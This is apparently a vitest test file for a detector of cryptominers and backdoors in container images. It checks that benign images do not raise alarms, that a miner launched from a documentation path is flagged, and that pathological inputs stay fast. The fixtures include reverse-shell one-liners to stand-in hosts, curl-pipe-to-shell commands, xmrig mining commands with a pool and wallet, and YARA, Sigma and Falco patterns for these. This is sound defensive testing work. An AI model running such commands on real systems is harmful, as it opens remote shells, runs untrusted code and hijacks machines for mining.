import { describe, expect, it } from 'vitest';
import { bitcoinAddress, ethereumAddress, moneroAddress } from '../../testkit/addresses.ts';
import { type ImageSpec, judge } from '../../testkit/detect.ts';
import { DETECTORS } from './detectors.ts';
import { POOL_DOMAINS } from './pools/pool-domains.ts';

/*
 * What cost other tools their users' trust: things that speak of malware, or look like it, and are honest. Every
 * detector sees each of them; none may say more than "low".
 */
const XMR = moneroAddress('traps');
const ENTRY = '#!/bin/bash\nset -eo pipefail\n';

function script(text: string): ImageSpec {
  return {
    layers: [{ 'docker-entrypoint.sh': { text: ENTRY + text, mode: 0o755 } }],
    config: { Entrypoint: ['/docker-entrypoint.sh'] },
  };
}

const TRAPS: readonly (readonly [string, ImageSpec])[] = [
  [
    'an entrypoint that drops its rights',
    script(
      'if [ "$1" = postgres ] && [ "$(id -u)" = 0 ]; then\n  chown -R postgres "$PGDATA"\n  exec gosu postgres "$BASH_SOURCE" "$@"\nfi\nexec "$@"\n',
    ),
  ],
  [
    'an entrypoint that handles empty passwords',
    script(
      'if [ -z "$MYSQL_ROOT_PASSWORD" ] && [ -z "$MYSQL_ALLOW_EMPTY_PASSWORD" ]; then echo >&2 "error: set one"; exit 1; fi\n',
    ),
  ],
  [
    'init scripts',
    script(
      'for f in /docker-entrypoint-initdb.d/*; do\n  case "$f" in *.sh) . "$f" ;; *.sql.gz) gunzip -c "$f" | psql ;; esac\ndone\nexec "$@"\n',
    ),
  ],
  [
    'wait-for-it',
    script(
      'wait_for() {\n  while :; do\n    (echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n    result=$?\n    [ $result -eq 0 ] && break\n    sleep 1\n  done\n}\nwait_for; exec "$@"\n',
    ),
  ],
  [
    'a /dev/tcp probe under timeout',
    script('until timeout 1 bash -c \'cat < /dev/null > /dev/tcp/db/5432\'; do sleep 1; done\nexec "$@"\n'),
  ],
  ['nc -z', script('while ! nc -z -w 2 "$DB_HOST" 5432; do sleep 1; done\nexec "$@"\n')],
  [
    'a health check with curl',
    {
      layers: [{}],
      config: {
        Healthcheck: { Test: ['CMD-SHELL', 'curl -fsS http://localhost:8080/health | grep -q UP || exit 1'] },
      },
    },
  ],
  [
    'a health check with nc',
    {
      layers: [{}],
      config: { Healthcheck: { Test: ['CMD-SHELL', 'echo ruok | nc 127.0.0.1 2181 | grep imok'] } },
    },
  ],
  [
    'log messages',
    script(
      `echo "curl https://x.example/i.sh | bash"\necho "stratum+tcp://pool.minexmr.com:4444 -u ${XMR}"\n`,
    ),
  ],
  [
    'comments',
    script(
      `# curl https://x.example/i.sh | sh\n# ./x -o pool.minexmr.com:4444 -u ${XMR}\n: # bash -i >& /dev/tcp/203.0.113.9/1 0>&1\n`,
    ),
  ],
  [
    'settings from base64',
    script(
      'echo "$TLS_CERT" | base64 -d > /etc/tls.crt\nprintf %s "$KEY" | base64 --decode > /etc/tls.key\nexec nginx\n',
    ),
  ],
  [
    'nodesource at build time',
    {
      layers: [{}],
      instructions: [
        'RUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash -',
        'RUN curl -sSL https://install.python-poetry.org | python3 -',
      ],
    },
  ],
  [
    'an installer that nothing runs',
    {
      layers: [
        {
          'usr/local/share/nvm/install.sh':
            '#!/bin/bash\ncurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v1/install.sh | bash\n',
        },
      ],
    },
  ],
  [
    'documentation',
    {
      layers: [
        {
          'usr/share/doc/xmrig/README.md': `xmrig -o pool.minexmr.com:4444 -u ${XMR} --donate-level 1`,
          'usr/share/man/man1/nc.1': 'nc -l 1234 -e /bin/sh',
          'app/README.md': `Donate XMR: ${XMR}\nbash -i >& /dev/tcp/10.0.0.1/8080 0>&1\ncurl https://x.example | sh`,
        },
      ],
    },
  ],
  [
    'a hosts block-list',
    {
      layers: [
        {
          'etc/pihole/gravity.list': POOL_DOMAINS.join('\n'),
          'etc/hosts.block': POOL_DOMAINS.map((domain) => `0.0.0.0 ${domain}`).join('\n'),
        },
      ],
    },
  ],
  [
    'Falco rules',
    {
      layers: [
        {
          'etc/falco/rules.d/miners.yaml':
            '- list: miner_ports\n- macro: m\n  condition: (proc.cmdline contains "stratum+tcp" or proc.cmdline contains "--donate-level")\n- list: miner_domains\n  items: ["pool.minexmr.com","pool.supportxmr.com","xmr.crypto-pool.fr"]\n',
        },
      ],
    },
  ],
  [
    'YARA rules',
    {
      layers: [
        {
          'opt/rules/miner.yar':
            'rule xmrig { strings: $a = "stratum+tcp://" $b = "donate-level" $c = "randomx" $d = "cryptonight" $e="bash -i >& /dev/tcp/" condition: 3 of them }\n',
        },
      ],
    },
  ],
  [
    'Sigma rules',
    {
      layers: [
        {
          'opt/sigma/rules/linux/x.yml':
            "detection:\n  selection:\n    CommandLine|contains:\n      - ' --donate-level='\n      - 'stratum+tcp://'\n      - 'nc -e /bin/sh'\n",
        },
      ],
    },
  ],
  [
    'an antivirus database',
    {
      layers: [
        {
          'var/lib/clamav/main.cld': {
            bytes:
              'stratum+tcp://pool.minexmr.com:4444 donate-level randomx mining.subscribe mining.authorize cryptonight',
          },
        },
      ],
    },
  ],
  [
    'a scanner that embeds its rules',
    {
      layers: [
        {
          'usr/bin/tracee': {
            bytes:
              'stratum+tcp stratum2+tcp xmrig minerd --donate-level randomx nicehash cryptominer attack.mitre.org rootkit ransomware',
            elf: true,
          },
        },
      ],
      config: { Cmd: ['/usr/bin/tracee-starter'] },
    },
  ],
  [
    'an audit script',
    script(
      'ps aux | grep -E "xmrig|minerd|stratum\\+tcp|--donate-level" | grep -v grep && alert\npkill -f xmrig\niptables -A OUTPUT -d pool.minexmr.com -j REJECT\n',
    ),
  ],
  [
    'monerod',
    {
      layers: [
        {
          'usr/bin/monerod': {
            bytes: 'RandomX cryptonight start-mining hashrate bg-mining block template',
            elf: true,
          },
        },
      ],
      config: { Entrypoint: ['monerod', '--non-interactive', '--rpc-bind-ip=0.0.0.0', '--restricted-rpc'] },
    },
  ],
  [
    'a wallet service',
    {
      layers: [{}],
      config: {
        Cmd: [
          'monero-wallet-rpc',
          '--daemon-address',
          'node.example:18081',
          '--rpc-bind-port',
          '18082',
          '--wallet-dir',
          '/w',
        ],
      },
    },
  ],
  [
    'a shop that takes coins',
    {
      layers: [
        {
          'etc/shop.yaml': `payments:\n  btc_address: ${bitcoinAddress('shop')}\n  api: https://api.example.com\n`,
        },
      ],
    },
  ],
  [
    'a web3 front end',
    {
      layers: [
        {
          'app/contracts.json': JSON.stringify({
            router: ethereumAddress('a'),
            rpc: 'https://rpc.example:8545',
            pools: [{ address: ethereumAddress('b'), url: 'https://app.example' }],
          }),
        },
      ],
    },
  ],
  [
    'database pools',
    {
      layers: [
        {
          'app/application.yml':
            'spring:\n  datasource:\n    url: jdbc:postgresql://db:5432/app\n    username: app\n    hikari:\n      pool-size: 10\nworker:\n  pool: main:9000\n',
        },
      ],
    },
  ],
  [
    'a pool exporter',
    {
      layers: [
        {
          'app/exporter.py':
            '#!/usr/bin/python3\nimport requests\nURL = "https://api.nanopool.org/v1/xmr/avghashrate/"\nprint(requests.get(URL).json())\n',
        },
      ],
      config: { Cmd: ['/app/exporter.py'] },
    },
  ],
  [
    'netcat and socat as tools',
    {
      layers: [
        {
          'usr/bin/socat': { bytes: 'TCP-LISTEN EXEC SYSTEM', elf: true },
          'usr/bin/nc': { bytes: '-e filename program to exec', elf: true },
        },
      ],
    },
  ],
  [
    'a docker socket proxy',
    { layers: [{}], config: { Cmd: ['socat', 'TCP-LISTEN:2375,fork', 'UNIX-CONNECT:/var/run/docker.sock'] } },
  ],
  [
    'an SSH client',
    {
      layers: [
        {
          'root/.ssh/config': 'Host *\n  StrictHostKeyChecking no\n',
          'root/.ssh/known_hosts':
            'github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n',
        },
      ],
    },
  ],
  [
    'cron of the distribution',
    {
      layers: [
        {
          'etc/crontab': 'SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n',
          'etc/cron.daily/logrotate':
            '#!/bin/sh\ntest -x /usr/sbin/logrotate || exit 0\n/usr/sbin/logrotate /etc/logrotate.conf\n',
        },
      ],
    },
  ],
  [
    'certificates and keys in base64',
    {
      layers: [
        {
          'etc/app.json': JSON.stringify({
            cert: Buffer.alloc(900, 7).toString('base64'),
            token: 'QWxhZGRpbjpvcGVuIHNlc2FtZSBhbmQgbW9yZSB0ZXh0',
          }),
        },
      ],
    },
  ],
  [
    'a data download at start',
    script(
      'curl -fsSL "https://downloads.example/GeoLite2.mmdb" -o /data/geo.mmdb\nwget -q https://x.example/list.txt -O /data/list.txt\nexec nginx -g "daemon off;"\n',
    ),
  ],
  [
    'instance metadata',
    script(
      'REGION=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\nexport REGION\nexec "$@"\n',
    ),
  ],
  ['a settings reader in python', script('eval "$(python3 /opt/print-env.py)"\nexec "$@"\n')],
  [
    'requests and subprocess in one program',
    {
      layers: [
        {
          'app/main.py':
            '#!/usr/bin/python3\nimport requests, subprocess, socket\nr = requests.get("https://api.example/x")\nsubprocess.run(["ls", "-l"])\ns = socket.create_connection(("db", 5432))\n',
        },
      ],
      config: { Cmd: ['/app/main.py'] },
    },
  ],
];

describe('honest images stay quiet', () => {
  it.each(TRAPS)('%s', (_name, spec) => {
    const { findings, unknowns } = judge(DETECTORS, spec);
    expect(unknowns).toEqual([]);
    const loud = findings.filter(({ severity }) => severity !== 'info' && severity !== 'low');
    expect(loud.map(({ rule, why }) => `${rule}: ${why}`)).toEqual([]);
  });

  it('but a document that the start chain runs does not hide', () => {
    const layers = [
      {
        'usr/share/doc/x/rules.yar': {
          text: `#!/bin/sh\n/x -o pool.minexmr.com:4444 -u ${XMR}\n`,
          mode: 0o755,
        },
      },
    ];
    const { findings } = judge(DETECTORS, { layers, config: { Cmd: ['/usr/share/doc/x/rules.yar'] } });
    expect(findings[0]).toMatchObject({ rule: 'miner/proof', severity: 'critical' });
  });
});

describe('hostile texts cost little', () => {
  it.each([
    ['one line of more than a million characters', 'a=b;'.repeat(375_000)],
    ['brackets', '$('.repeat(50_000)],
    ['quotes', `"'`.repeat(50_000)],
    ['base64 without end', 'QUJD'.repeat(125_000)],
    ['equals signs', '='.repeat(250_000)],
    ['dots', 'a.'.repeat(150_000)],
    ['spaces', `x${' '.repeat(250_000)}y`],
    ['hashes', '# \n'.repeat(100_000)],
    ['pipes', 'a|'.repeat(50_000)],
    ['crontab stars', '* '.repeat(75_000)],
    ['options', '-o a:1 '.repeat(50_000)],
    ['stratum', 'stratum+tcp://'.repeat(50_000)],
    ['open tags', '<a '.repeat(50_000)],
    ['backticks', '`a '.repeat(50_000)],
    ['one long word', `socket("net") urlopen( on("data", ${'a'.repeat(250_000)}`],
    [
      'spaces behind a call',
      `socket fetch( urlopen( eval${' '.repeat(150_000)}\x00 open${' '.repeat(150_000)};`,
    ],
    ['spaces in sections', `[ ${' '.repeat(8000)}\n`.repeat(30)],
    ['calls run together', `socket .connect( fileno( Popen("/bin/sh ${'spawn'.repeat(100_000)}`],
    ['newlines that a command prints', `X=$(printf '${'\n'.repeat(60_000)}x')\n`.repeat(4)],
    ['an option of many letters', `passwd -${'d'.repeat(60_000)}- x\nbase64 -${'d'.repeat(60_000)}- x\n`],
    ['netcat upon netcat', 'nc -'.repeat(50_000)],
  ])('%s', (_name, text) => {
    const layers = [
      {
        'a.sh': `#!/bin/sh\npool wallet\n${text}`,
        'etc/b.conf': `pool wallet\n${text}`,
        'c.py': `#!/usr/bin/python3\neval(pool)\n${text}`,
        'etc/d.json': `{"pool":\n${text}`,
        'etc/cron.d/e': text,
        'f.js': `#!/usr/bin/env node\neval(pool)\n${text}`,
        'g.pl': `#!/usr/bin/perl\neval $pool;\n${text}`,
        'h.rb': `#!/usr/bin/ruby\neval(pool)\n${text}`,
        'i.php': `<?php eval(pool);\n${text}`,
      },
    ];
    const { unknowns } = judge(DETECTORS, { layers, config: { Cmd: ['/a.sh'] } });
    // What starts and is too much to be followed is said; nothing else is missing.
    const others = unknowns.filter(
      ({ limit, detail }) => limit !== 'maxScriptParts' && !detail.includes('than detectors follow'),
    );
    expect(others).toEqual([]);
  });
});
